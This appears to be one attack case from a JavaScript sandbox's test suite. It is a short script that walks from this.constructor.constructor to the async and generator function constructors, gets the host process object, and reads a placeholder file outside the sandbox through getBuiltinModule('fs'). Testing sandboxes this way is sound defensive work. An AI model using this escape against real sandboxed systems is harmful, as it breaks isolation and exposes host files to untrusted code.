// attack {"class":"host realm","attempt":"the constructor of async functions and generators, beside Function","effect":"canary","ends":["ok"],"bare":true}
const found = [];
const Host = this.constructor.constructor;
for (const make of [Host("return async () => {}")(), Host("return function* () {}")(), Host("return async function* () {}")()]) {
  const host = make.constructor("return typeof process === 'object' ? process : undefined");
  const made = host();
  const value = made?.next === undefined ? await made : (await made.next()).value;
  if (value?.getBuiltinModule !== undefined) found.push(value.getBuiltinModule("fs").readFileSync("{{outside.file}}", "utf8"));
}
console.log(found.join(""));
